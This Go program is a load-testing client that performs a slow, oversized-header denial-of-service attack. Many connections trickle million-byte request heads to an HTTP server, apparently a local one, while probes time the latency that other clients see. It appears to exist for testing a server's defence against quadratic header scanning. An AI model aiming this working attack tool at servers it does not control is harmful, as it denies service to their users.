// Command headscan-attack is the client of scripts/attack-headscan.sh: N
// clients each send one request head of -head bytes to -addr as -line-byte
// header lines, one line every -every, then the blank line, and read the
// answer; meanwhile a probe opens a fresh connection for GET / every
// -probe-every and times its answer. It prints one line:
//
//	clients=20 heads_answered=20 heads_cut=0 head_status=200x20 probes=170 probe_fail=0 probe_p50_ms=0.4 probe_p99_ms=1.2 probe_max_ms=3.1 secs=17.1
//
// A server that searches an unfinished head from its start each time more
// of it arrives does work quadratic in the head's length; the probes show
// what that costs everyone else.
//
//	headscan-attack -addr 127.0.0.1:17640 -clients 20 -head 1000000 -line 64 -every 1ms
package main

import (
	"bufio"
	"flag"
	"fmt"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:17640", "server `address`")
	clients := flag.Int("clients", 20, "attacking connections")
	headLen := flag.Int("head", 1000000, "bytes of each attacking head (request line and header lines; then the blank line)")
	line := flag.Int("line", 64, "bytes of each header line, CRLF included")
	every := flag.Duration("every", time.Millisecond, "pause between an attacker's lines")
	probeEvery := flag.Duration("probe-every", 100*time.Millisecond, "pause between probes")
	flag.Parse()

	lines := buildLines(*headLen, *line)
	start := time.Now()
	var wg sync.WaitGroup
	var mu sync.Mutex
	answered, cut, status := 0, 0, map[int]int{}
	var firstErr error
	for i := 0; i < *clients; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			code, err := attack(*addr, lines, *every)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				cut++
				if firstErr == nil {
					firstErr = err
				}
				return
			}
			answered++
			status[code]++
		}()
	}
	done := make(chan struct{})
	var lat []time.Duration
	fails := 0
	var pwg sync.WaitGroup
	pwg.Add(1)
	go func() {
		defer pwg.Done()
		t := time.NewTicker(*probeEvery)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
			}
			d, err := probe(*addr)
			if err != nil {
				fails++
				continue
			}
			lat = append(lat, d)
		}
	}()
	wg.Wait()
	close(done)
	pwg.Wait()
	secs := time.Since(start).Seconds()
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	var codes []string
	for c, n := range status {
		codes = append(codes, fmt.Sprintf("%dx%d", c, n))
	}
	sort.Strings(codes)
	if firstErr != nil {
		fmt.Fprintf(os.Stderr, "headscan-attack: %d attackers failed, the first with: %v\n", cut, firstErr)
	}
	fmt.Printf("clients=%d heads_answered=%d heads_cut=%d head_status=%s probes=%d probe_fail=%d probe_p50_ms=%.1f probe_p99_ms=%.1f probe_max_ms=%.1f secs=%.1f\n",
		*clients, answered, cut, strings.Join(codes, ","), len(lat), fails, ms(pct(lat, 50)), ms(pct(lat, 99)), ms(pct(lat, 100)), secs)
}

// buildLines splits a head of about n bytes into lines of size bytes: the
// request line, Host, then header lines, then the blank line.
func buildLines(n, size int) [][]byte {
	out := [][]byte{[]byte("GET /attack HTTP/1.1\r\n"), []byte("Host: x\r\n")}
	left := n - len(out[0]) - len(out[1])
	for i := 0; left > 0; i++ {
		name := fmt.Sprintf("X-%d: ", i)
		l := name + strings.Repeat("a", max(size-len(name)-2, 1)) + "\r\n"
		out = append(out, []byte(l))
		left -= len(l)
	}
	return append(out, []byte("\r\n"))
}

// attack sends the lines one by one, then reads the status of the answer.
func attack(addr string, lines [][]byte, every time.Duration) (int, error) {
	c, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	t := time.NewTicker(every)
	defer t.Stop()
	for _, l := range lines {
		c.SetWriteDeadline(time.Now().Add(30 * time.Second))
		if _, err := c.Write(l); err != nil {
			return 0, err
		}
		<-t.C
	}
	c.SetReadDeadline(time.Now().Add(30 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, err
	}
	resp.Body.Close()
	return resp.StatusCode, nil
}

// probe times a fresh connection's GET / to its answer's last byte.
func probe(addr string) (time.Duration, error) {
	t0 := time.Now()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write([]byte("GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")); err != nil {
		return 0, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, err
	}
	_, err = bufio.NewReader(resp.Body).WriteTo(nopWriter{})
	resp.Body.Close()
	if err != nil {
		return 0, err
	}
	return time.Since(t0), nil
}

type nopWriter struct{}

func (nopWriter) Write(p []byte) (int, error) { return len(p), nil }

func pct(s []time.Duration, p int) time.Duration {
	if len(s) == 0 {
		return 0
	}
	i := (len(s)*p + 99) / 100
	return s[min(max(i-1, 0), len(s)-1)]
}

func ms(d time.Duration) float64 { return float64(d) / 1e6 }
